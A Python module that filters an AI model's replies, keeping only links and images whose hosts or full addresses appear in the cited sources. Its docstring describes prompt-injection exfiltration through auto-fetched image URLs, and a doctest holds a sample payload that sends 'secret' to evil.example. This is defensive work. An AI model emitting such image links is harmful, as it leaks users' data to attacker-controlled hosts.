"""Links of a reply: what would send a reader, or a renderer by itself, to a host that the sources do not name.

A model that obeys a document can put what it has read into the address of an image, which is fetched as soon as the
answer is shown. So links go through only to hosts that stand in the cited text, and images only where their whole
address stands there; of everything else the text is kept. Renderers differ, so what any of them may read as a link or a tag
counts as one.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

_ADDRESS = r"(?:<[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)"
_LINK = re.compile(
    r"(?P<image>!?)\[(?P<label>(?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\]"
    rf"\(\s*+(?P<target>{_ADDRESS})(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
    rf"|\]\(\s*+(?P<loose>{_ADDRESS})"  # the end of what a renderer may read as a link all the same, as by brackets in brackets
)
_DEFINITION = re.compile(r"\[(?:[^\[\]\\]|\\.)+\]:\s*(?P<target><[^<>\n]*>|\S+)", re.DOTALL)
_LEADS = re.compile(r"[/\\:&?]")  # what an address needs to lead away or to carry something
_HIDES = re.compile(r"<(?P<name>style|script)\b[^>]*>.*?</(?P=name)\b[^>]*>", re.DOTALL | re.IGNORECASE)
_OPENED = re.compile("<[a-z]", re.IGNORECASE)
_QUOTE = re.compile("[\"']")
_TAG = re.compile(r"<[a-z](?:=\s*(?:\"[^\"]*\"|'[^']*')|[^>])*+>?", re.IGNORECASE)  # a > in a quoted value ends no tag
_LOADS = re.compile(
    r"<(?:style|script|meta)\b"
    r"|\b(?:src|srcset|imagesrcset|srcdoc|href|action|formaction|ping|data|poster|background|style|attributename|on\w+)\s*=",
    re.IGNORECASE,
)
_BARE = re.compile(
    r"(?P<target>(?:[a-z][a-z0-9+.-]{1,15}://|(?<![a-z0-9])www\.)[^\s<>\"'`\[\](){}|]+)"
    r"|(?<=<)(?P<inside>[a-z][a-z0-9+.-]{1,31}:(?!:|[\w.-]*>)[^\s<>]*)(?=>)",  # but for names of XML and C++, as <xs:element>
    re.IGNORECASE,
)
_HOST = re.compile(r"(?:[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?\.)+[a-z0-9-]{2,}|\blocalhost\b", re.IGNORECASE)
_BESIDE = re.compile(r"[\w#][\w./#-]*")
_PLAIN = re.compile(r"[!-~]+")  # the characters that an address may hold, nothing that two parsers read in two ways


class Allowed:
    """The addresses that the cited text names."""

    def __init__(self, texts: Iterable[str]) -> None:
        self.text = "\n".join(texts)
        self.hosts = {h.lower() for h in _HOST.findall(self.text)}

    def link(self, target: str) -> bool:
        """Whether the host of an address stands in the cited text; an address without one has to stand there itself, or be a plain
        path below the page, which leads nowhere else.
        """
        if not _PLAIN.fullmatch(target) or "\\" in target:
            return False
        try:
            parts = urlsplit(f"//{target}" if target.lower().startswith("www.") else target)
            host = parts.hostname
        except ValueError:
            return False
        if not parts.netloc:
            return parts.scheme == "" and (target in self.text or _BESIDE.fullmatch(target) is not None)
        return host is not None and "@" not in parts.netloc and host in self.hosts and parts.scheme in ("", "http", "https", "ftp")

    def image(self, target: str) -> bool:
        """Whether the whole address stands in the cited text: an image is fetched without being asked."""
        return bool(_PLAIN.fullmatch(target)) and target in self.text


def strip_links(text: str, allowed: Allowed) -> tuple[str, int]:
    """The text with links and images that are not allowed reduced to their text, and how many that were.

    HTML that loads or leads somewhere is taken out whole, and of a bare address its host is left. ``[1](…)`` is a citation
    that leads somewhere, and becomes the citation.

    >>> strip_links("See [the page](https://a.org/x) ![](https://evil.example/?q=secret).", Allowed(["It is on a.org."]))
    ('See [the page](https://a.org/x) .', 1)
    """
    pass_over = _Stripping(allowed)
    while (new := pass_over(text)) != text:  # what is left of one link may be part of another; each pass makes the text shorter
        text = new
    return text, pass_over.count


class _Stripping:
    """One text, pass after pass, and how many links were not allowed."""

    def __init__(self, allowed: Allowed) -> None:
        self.allowed, self.count = allowed, 0

    def __call__(self, text: str) -> str:
        text = _DEFINITION.sub(self._definition, _LINK.sub(self._link, text))
        return _BARE.sub(self._bare, self._without_tags(_HIDES.sub(lambda m: self._instead(""), text)))

    def _instead(self, text: str) -> str:
        self.count += 1
        return text

    def _link(self, m: re.Match[str]) -> str:
        if m["loose"] is not None:
            return m[0] if self._may_stand(m["loose"], image=m.string.rfind("![", 0, m.start()) >= 0) else self._instead("]")
        target, label = _address(m["target"]), m["label"]
        if not m["image"] and label.strip().isdigit():
            return f"[{label.strip()}]"
        if not (self.allowed.image(target) if m["image"] else self.allowed.link(target)):
            return self._instead(label)
        return f"{m['image']}[{_LINK.sub(self._link, label)}{m.string[m.end('label') : m.end()]}"

    def _definition(self, m: re.Match[str]) -> str:
        return m[0] if self._may_stand(m["target"], image="![" in m.string) else self._instead("")

    def _may_stand(self, target: str, *, image: bool) -> bool:
        """Whether an address may stand that an image may use, or else a link."""
        target = _address(target)
        return _LEADS.search(target) is None or (self.allowed.image(target) if image else self.allowed.link(target))

    def _without_tags(self, text: str) -> str:
        """Without tags that load or lead. A tag that begins in a quoted value of another is judged by itself too: a renderer may take
        the other one for text.
        """
        kept: list[str] = []
        at = judged = 0
        for opened in _OPENED.finditer(text):
            if opened.start() < judged or (tag := _TAG.match(text, opened.start())) is None:
                continue
            if _LOADS.search(tag[0]):
                kept.append(self._instead(text[at : opened.start()]))
                at = judged = tag.end()
            elif not _QUOTE.search(tag[0]):
                judged = tag.end()
        return "".join((*kept, text[at:]))

    def _bare(self, m: re.Match[str]) -> str:
        if m["inside"] is not None:
            return m[0] if self.allowed.link(m["inside"]) else self._instead(_bare_host(m["inside"]))
        target = m["target"].rstrip(".,;:!?*_~")
        return m[0] if self.allowed.link(target) else self._instead(_bare_host(target) + m["target"][len(target) :])


def _address(target: str) -> str:
    return target.removeprefix("<").removesuffix(">")


def _bare_host(address: str) -> str:
    """What is left of an address that stands in the text: its host, which no renderer makes a link of."""
    return re.split(r"[/?#\\:]", re.sub(r"^(?:[^:/]*://)?(?:[^/@]*@)?(?:www\.)*", "", address, flags=re.IGNORECASE))[0]
